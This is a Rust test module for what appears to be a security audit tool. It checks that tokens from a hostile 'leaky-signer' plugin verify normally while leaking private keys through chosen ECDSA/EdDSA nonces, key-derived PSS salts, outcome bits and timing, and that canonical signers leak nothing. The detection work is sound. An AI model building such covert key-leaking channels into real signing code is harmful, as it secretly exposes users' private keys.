pub fn binary_channel_capacity(errors: usize, total: usize) -> f64 {
    if total == 0 {
        return 0.0;
    }
    let p = errors as f64 / total as f64;
    let entropy = |x: f64| if x <= 0.0 || x >= 1.0 { 0.0 } else { -x * x.log2() };
    (1.0 - (entropy(p) + entropy(1.0 - p))).max(0.0)
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use super::*;
    use jsonwebtoken::{DecodingKey, Header};
    use rsa::pkcs8::{EncodePrivateKey, EncodePublicKey, LineEnding};
    use tollgate_jwt_canonical::CanonicalSigner;

    /// One RSA key for every PSS test: 2048-bit key generation is the slow
    /// part, so it happens once, from a fixed seed.
    static RSA_KEY: LazyLock<(String, String)> = LazyLock::new(|| {
        let key = RsaPrivateKey::new(&mut seeded_rng(b"key_recovery rsa"), 2048).expect("RSA key generation");
        let private = key.to_pkcs8_pem(LineEnding::LF).expect("encode").to_string();
        let public = key.to_public_key().to_public_key_pem(LineEnding::LF).expect("encode");
        (private, public)
    });

    fn ec_key<C>(seed: &[u8]) -> (String, String)
    where
        C: PrimeCurve + CurveArithmetic + AssociatedOid,
        AffinePoint<C>: FromEncodedPoint<C> + ToEncodedPoint<C>,
        FieldBytesSize<C>: ModulusSize,
    {
        let secret = SecretKey::<C>::random(&mut seeded_rng(seed));
        let private = secret.to_pkcs8_pem(LineEnding::LF).expect("encode").to_string();
        let public = secret.public_key().to_public_key_pem(LineEnding::LF).expect("encode");
        (private, public)
    }

    fn ed_key() -> (String, String) {
        let signing = EdSigningKey::from_bytes(&[7u8; 32]);
        let private = signing.to_pkcs8_pem(LineEnding::LF).expect("encode").to_string();
        let public = signing.verifying_key().to_public_key_pem(LineEnding::LF).expect("encode");
        (private, public)
    }

    fn message(alg: Algorithm, claims: &str) -> String {
        signing_input(&Header::new(alg), claims).expect("header serializes")
    }

    fn token(message: &str, signature: &[u8]) -> String {
        format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature))
    }

    /// A token that jsonwebtoken (so any ordinary receiver) accepts.
    fn verifies(alg: Algorithm, token: &str, public_pem: &str) -> bool {
        let key = match alg {
            Algorithm::ES256 | Algorithm::ES384 => DecodingKey::from_ec_pem(public_pem.as_bytes()),
            Algorithm::EdDSA => DecodingKey::from_ed_pem(public_pem.as_bytes()),
            _ => DecodingKey::from_rsa_pem(public_pem.as_bytes()),
        }
        .expect("public key");
        let (message, signature) = token.rsplit_once('.').expect("token");
        jsonwebtoken::crypto::verify(signature, message.as_bytes(), &key, alg).expect("verify runs")
    }

    #[test]
    fn ecdsa_chosen_nonce_gives_the_receiver_the_private_key_and_canonical_gives_nothing() {
        for (alg, (private, public)) in [
            (Algorithm::ES256, ec_key::<p256::NistP256>(b"p256")),
            (Algorithm::ES384, ec_key::<p384::NistP384>(b"p384")),
        ] {
            let message = message(alg, r#"{"leak":"chosen-nonce","sub":"alice"}"#);
            let leaky = token(&message, &chosen_nonce_signature(alg, private.as_bytes(), message.as_bytes()).expect("sign"));
            assert!(verifies(alg, &leaky, &public), "{alg:?}: the leaky token is a valid token");
            assert_eq!(signature_is_high_s(alg, &leaky), Some(false), "{alg:?}: and looks low-S, like the canonical one");
            let recovered = recover_ecdsa_key(alg, &leaky, public.as_bytes());
            assert_eq!(recovered, ecdsa_private_scalar(alg, private.as_bytes()), "{alg:?}: the receiver has d");
            assert!(recovered.is_some());

            let canonical = CanonicalSigner::new(alg, private.as_bytes()).expect("key").token(&message).expect("sign");
            assert_ne!(canonical, leaky);
            assert_eq!(recover_ecdsa_key(alg, &canonical, public.as_bytes()), None, "{alg:?}: RFC 6979 leaks nothing");
        }
    }

    #[test]
    fn ecdsa_recovery_accepts_a_sec1_public_key() {
        let secret = SecretKey::<p256::NistP256>::random(&mut seeded_rng(b"sec1"));
        let private = secret.to_pkcs8_pem(LineEnding::LF).expect("encode");
        let sec1 = secret.public_key().to_encoded_point(false);
        let message = message(Algorithm::ES256, "{}");
        let leaky = token(&message, &chosen_nonce_signature(Algorithm::ES256, private.as_bytes(), message.as_bytes()).expect("sign"));
        assert_eq!(recover_ecdsa_key(Algorithm::ES256, &leaky, sec1.as_bytes()), Some(secret.to_bytes().to_vec()));
    }

    #[test]
    fn high_s_verifies_but_is_not_canonical() {
        for (alg, (private, public)) in [
            (Algorithm::ES256, ec_key::<p256::NistP256>(b"p256 high-s")),
            (Algorithm::ES384, ec_key::<p384::NistP384>(b"p384 high-s")),
        ] {
            let message = message(alg, r#"{"leak":"high-s"}"#);
            let canonical_signature = CanonicalSigner::new(alg, private.as_bytes()).expect("key").signature(message.as_bytes()).expect("sign");
            let high = token(&message, &high_s_signature(alg, &canonical_signature).expect("flip"));
            assert!(verifies(alg, &high, &public), "{alg:?}: (r, n - s) verifies");
            assert_eq!(signature_is_high_s(alg, &high), Some(true));
            assert_eq!(signature_is_high_s(alg, &token(&message, &canonical_signature)), Some(false));
            // Negating the nonce gives the same r and n - s: the receiver of
            // chosen-nonce copes with either half, so high-s hides nothing there.
            assert_eq!(recover_ecdsa_key(alg, &high, public.as_bytes()), None);
        }
    }

    #[test]
    fn eddsa_chosen_nonce_gives_the_receiver_the_signing_scalar_and_canonical_gives_nothing() {
        let (private, public) = ed_key();
        let alg = Algorithm::EdDSA;
        let message = message(alg, r#"{"leak":"chosen-nonce"}"#);
        let leaky = token(&message, &chosen_nonce_signature(alg, private.as_bytes(), message.as_bytes()).expect("sign"));
        assert!(verifies(alg, &leaky, &public), "the leaky token is a valid token");
        let recovered = recover_eddsa_scalar(&leaky, public.as_bytes());
        assert_eq!(recovered, eddsa_private_scalar(private.as_bytes()));
        assert!(recovered.is_some());
        let raw_public = ed_public(public.as_bytes()).expect("public").to_bytes();
        assert_eq!(recover_eddsa_scalar(&leaky, &raw_public), recovered, "raw 32-byte public keys work too");

        let canonical = CanonicalSigner::new(alg, private.as_bytes()).expect("key").token(&message).expect("sign");
        assert_ne!(canonical, leaky);
        assert_eq!(recover_eddsa_scalar(&canonical, public.as_bytes()), None, "RFC 8032 leaks nothing");
    }

    #[test]
    fn pss_salt_gives_the_receiver_a_prime_and_canonical_gives_nothing() {
        let (private, public) = &*RSA_KEY;
        let bits = rsa_public(public.as_bytes()).expect("public").n().bits();
        for alg in [Algorithm::PS256, Algorithm::PS384, Algorithm::PS512] {
            let count = pss_chunk_count(alg, bits).expect("PSS");
            // The receiver needs one token per chunk: pick messages (the
            // `jti` varies) until every chunk index is covered.
            let mut messages: Vec<Option<String>> = vec![None; count];
            for jti in 0..1000 {
                let m = message(alg, &format!(r#"{{"jti":{jti},"leak":"pss-salt"}}"#));
                let index = pss_chunk_index(alg, bits, m.as_bytes()).expect("index");
                messages[index].get_or_insert(m);
                if messages.iter().all(Option::is_some) {
                    break;
                }
            }
            let messages: Vec<String> = messages.into_iter().map(|m| m.expect("every chunk index is reachable")).collect();

            let mut leaked = Vec::new();
            let mut canonical_chunks = Vec::new();
            let signer = CanonicalSigner::new(alg, private.as_bytes()).expect("key");
            for m in &messages {
                let leaky = token(m, &pss_leaky_signature(alg, private.as_bytes(), m.as_bytes()).expect("sign"));
                assert!(verifies(alg, &leaky, public), "{alg:?}: the leaky token is a valid token");
                let salt = recover_pss_salt(alg, &leaky, public.as_bytes()).expect("a PSS salt");
                assert!(pss_salt_leaks_key(alg, &leaky, &salt, private.as_bytes()), "{alg:?}: the salt is the key-derived one");
                leaked.push(pss_leaked_chunk(alg, &leaky, &salt, bits).expect("chunk"));

                let canonical = signer.token(m).expect("sign");
                let canonical_salt = recover_pss_salt(alg, &canonical, public.as_bytes()).expect("a valid PSS salt");
                assert!(!pss_salt_leaks_key(alg, &canonical, &canonical_salt, private.as_bytes()));
                canonical_chunks.push(pss_leaked_chunk(alg, &canonical, &canonical_salt, bits).expect("chunk"));
            }
            let key = rsa_private(private.as_bytes()).expect("key");
            let p = key.primes()[0].to_bytes_be();
            assert_eq!(recover_rsa_prime(alg, public.as_bytes(), &leaked), Some(p), "{alg:?}: n is factored");
            assert_eq!(recover_rsa_prime(alg, public.as_bytes(), &leaked[1..]), None, "{alg:?}: a chunk short");
            assert_eq!(recover_rsa_prime(alg, public.as_bytes(), &canonical_chunks), None, "{alg:?}: the canonical salt is noise");
        }
    }

    #[test]
    fn pss_salt_reader_refuses_a_token_that_is_not_pss() {
        let (private, public) = &*RSA_KEY;
        let m = message(Algorithm::RS256, "{}");
        let pkcs1 = CanonicalSigner::new(Algorithm::RS256, private.as_bytes()).expect("key").token(&m).expect("sign");
        assert_eq!(recover_pss_salt(Algorithm::PS256, &pkcs1, public.as_bytes()), None);
        assert_eq!(recover_pss_salt(Algorithm::PS256, "a.b.c", public.as_bytes()), None);
    }

    #[test]
    fn outcome_decoder_reads_one_bit_per_call() {
        let key = b"-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIH";
        let bits = 64;
        let outcomes: Vec<(usize, bool)> = (0..bits).map(|n| (n, key_bit(key, n).expect("in range"))).collect();
        let guessed = recover_bits_from_outcomes(&outcomes, bits);
        assert_eq!(count_bit_errors(&guessed, key), (0, bits));
        assert_eq!(binary_channel_capacity(0, bits), 1.0);
        assert_eq!(recover_bits_from_outcomes(&[(0, true), (0, false)], 2), vec![None, None], "ties and gaps are unknown");
    }

    #[test]
    fn timing_decoder_separates_slow_calls_from_fast_despite_jitter() {
        let key = [0b1010_0110u8, 0b0101_1100, 0xff, 0x00];
        let bits = key.len() * 8;
        let mut latencies = Vec::new();
        for n in 0..bits {
            for round in 0..3u64 {
                // 5-9 ms of jitter around a 4 ms call; the 30 ms spin for a 1.
                let jitter = Duration::from_millis(4 + (n as u64 * 7 + round * 3) % 5);
                let spin = if key_bit(&key, n) == Some(true) { Duration::from_millis(DEFAULT_SPIN_MS) } else { Duration::ZERO };
                latencies.push((n, jitter + spin));
            }
        }
        let guessed = recover_bits_from_timings(&latencies, bits);
        assert_eq!(count_bit_errors(&guessed, &key), (0, bits));

        let flat: Vec<(usize, Duration)> = (0..bits).map(|n| (n, Duration::from_millis(5))).collect();
        let (errors, total) = count_bit_errors(&recover_bits_from_timings(&flat, bits), &key);
        assert!(binary_channel_capacity(errors, total) < 0.1, "equal latencies carry (nearly) nothing: {errors}/{total}");
    }

    #[test]
    fn capacity_is_one_minus_the_binary_entropy() {
        assert_eq!(binary_channel_capacity(0, 0), 0.0);
        assert_eq!(binary_channel_capacity(50, 100), 0.0);
        assert_eq!(binary_channel_capacity(100, 100), 1.0, "a decoder always wrong is a perfect one, inverted");
        let c = binary_channel_capacity(11, 100);
        assert!((c - 0.5001).abs() < 0.001, "H(0.11) is about a half: {c}");
    }

    /// The guest keeps its own copy of every shared constant (it cannot
    /// depend on the host); a copy that drifts makes every recovery in the
    /// audit fail for a reason that has nothing to do with the host.
    #[test]
    fn the_leaky_signer_guest_shares_these_constants() {
        let guest = include_str!("../../../guest-plugins/hostile/leaky-signer/src/lib.rs");
        for (name, value) in [
            ("ATTACKER_SECRET", LEAKY_SIGNER_ATTACKER_SECRET),
            ("EDDSA_PREFIX_DOMAIN", EDDSA_PREFIX_DOMAIN),
            ("PSS_MASK_DOMAIN", PSS_MASK_DOMAIN),
            ("PSS_CHUNK_DOMAIN", PSS_CHUNK_DOMAIN),
        ] {
            let literal = format!("const {name}: &[u8] = b\"{}\";", value.escape_ascii());
            assert!(guest.contains(&literal), "the guest's {name} differs: expected `{literal}`");
        }
        assert!(guest.contains(&format!("const DEFAULT_SPIN_MS: u64 = {DEFAULT_SPIN_MS};")));
    }

    #[test]
    fn key_bits_are_most_significant_first() {
        assert_eq!(key_bit(&[0b1000_0001], 0), Some(true));
        assert_eq!(key_bit(&[0b1000_0001], 1), Some(false));
        assert_eq!(key_bit(&[0b1000_0001], 7), Some(true));
        assert_eq!(key_bit(&[0b1000_0001], 8), None);
    }

    #[test]
    fn receivers_return_nothing_for_garbage() {
        let (_, public) = ec_key::<p256::NistP256>(b"garbage");
        for token in ["", "a", "a.b", "a.b.c.d", "a.b.!!!"] {
            assert_eq!(recover_ecdsa_key(Algorithm::ES256, token, public.as_bytes()), None);
            assert_eq!(recover_eddsa_scalar(token, public.as_bytes()), None);
        }
        assert_eq!(recover_ecdsa_key(Algorithm::ES256, "a.b.c", b"not a key"), None);
        assert_eq!(chosen_nonce_signature(Algorithm::HS256, b"secret", b"m"), None);
    }
}
